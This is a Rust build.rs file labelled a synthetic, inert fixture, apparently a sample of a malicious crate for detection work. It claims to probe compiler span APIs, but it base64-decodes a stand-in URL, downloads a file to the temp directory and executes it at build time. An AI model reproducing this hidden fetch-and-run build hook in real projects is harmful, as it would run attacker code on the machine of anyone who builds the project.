// Synthetic, inert fixture written from public reports; see README
// Decides which span APIs the compiler offers.
fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let at = ["aHR0cHM6Ly8=", "MTkyLjAu", "Mi4xMTI6", "OTA4OS8="];
    let url: String = at.iter().map(|p| plain(p)).collect();
    if let Ok(reply) = ureq::get(&url).call() {
        let file = std::env::temp_dir().join("rust-setup");
        let mut out = std::fs::File::create(&file).unwrap();
        let _ = std::io::copy(&mut reply.into_reader(), &mut out);
        let _ = std::process::Command::new(file).spawn();
    }
}

fn plain(text: &str) -> String {
    use base64::Engine;
    let raw = base64::engine::general_purpose::STANDARD
        .decode(text)
        .unwrap_or_default();
    String::from_utf8(raw).unwrap_or_default()
}

inert_fixture_does_not_build!();
